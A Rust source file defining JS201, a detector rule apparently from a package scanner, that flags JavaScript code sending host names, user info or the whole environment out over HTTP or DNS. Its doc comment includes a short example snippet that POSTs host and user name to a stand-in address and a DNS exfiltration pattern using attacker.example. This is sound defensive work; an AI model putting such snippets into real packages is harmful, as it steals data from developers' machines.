//! JS201 `recon-exfiltration`: host information gathered **and** sent.
//!
//! **What it detects.** Host facts — `os.hostname()`, `os.userInfo()`,
//! `os.networkInterfaces()`, `$USER`/`$HOSTNAME`, or the whole
//! `process.env` (`JSON.stringify(process.env)`) — flowing into a network
//! request (`http(s).request/get`, `fetch`, `axios`, `net.connect`, a
//! request object's `write`/`end`) or into a DNS query built from them
//! (`dns.lookup(hex + '.attacker.example')`, DNS exfiltration).
//!
//! **Why it matters.** This is the first thing dependency-confusion and
//! typosquatting packages do: the 2021 flood in the seed article sent
//! OS, user name, host name and IP to 175.24.100.2 from install code, and
//! hundreds of npm "research" packages send `os.userInfo()` over HTTPS or
//! hex-encoded DNS labels (CWE-200, CWE-497; MITRE T1082 + T1041).
//!
//! **Example.**
//! ```js
//! const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
//! https.request({ host: '192.0.2.10', method: 'POST' }).end(data);
//! ```
//!
//! **False positives.** Telemetry and error-reporting SDKs send the host
//! name (Sentry's `serverName`); user-agent strings carry `os.platform()`.
//! Only strong sources count (`os.platform()`/`os.release()` alone never
//! fire), one strong source alone is Medium with low confidence, and
//! `dns.lookup(os.hostname())` (finding one's own address) is ignored: the
//! DNS case needs a name *built* from the data. In minified bundles, where
//! reused one-letter names make label flows coarse, non-DNS flows are at
//! most Medium with low confidence.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::label;
use super::{Ctx, api, network_sinks};

const MAX_PER_FILE: usize = 8;

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    for (call, l) in network_sinks(f) {
        let recon = l & label::RECON;
        if recon & label::RECON_STRONG == 0 {
            continue;
        }
        let path = call.path.as_deref().unwrap_or("");
        let dns = api::is_dns(path);
        if dns {
            // `dns.lookup(os.hostname())` finds one's own address; only a
            // name built from the data is exfiltration.
            let plain = call.args.first().is_some_and(|&a| {
                let a = if f.kind(a) == "identifier" {
                    f.decl_of(a).map_or(a, |d| d.init)
                } else {
                    a
                };
                f.call_at(a).and_then(|c| c.path.as_deref()) == Some("os.hostname")
            });
            let built = !plain;
            if !built {
                continue;
            }
        }
        let strong = (recon & label::RECON_STRONG).count_ones();
        let (mut sev, conf) = if dns || recon & label::ENV_ALL != 0 || strong >= 2 {
            (Severity::High, Confidence::High)
        } else if recon & label::OSINFO != 0 {
            (Severity::Medium, Confidence::Medium)
        } else {
            (Severity::Medium, Confidence::Low)
        };
        if sev == Severity::High && ctx.unasked() {
            sev = Severity::Critical;
        }
        // In minified bundles names are reused everywhere and labels spread:
        // report, but do not let a flow there decide a verdict alone.
        let (sev, conf) = if f.looks_minified() && !dns {
            (sev.min(Severity::Medium), Confidence::Low)
        } else {
            (sev, conf)
        };
        let how = if dns {
            "a DNS query"
        } else {
            "a network request"
        };
        out.push(
            ctx.finding(
                call.node,
                "JS201",
                "recon-exfiltration",
                sev,
                conf,
                format!("host information is sent out in {how}"),
            )
            .evidence(format!("sends: {}", label::names(recon).join(", ")))
            .evidence(format!(
                "via: {}",
                if path.is_empty() {
                    call.method.unwrap_or("?")
                } else {
                    path
                }
            )),
        );
        if out.len() >= MAX_PER_FILE {
            break;
        }
    }
    out
}
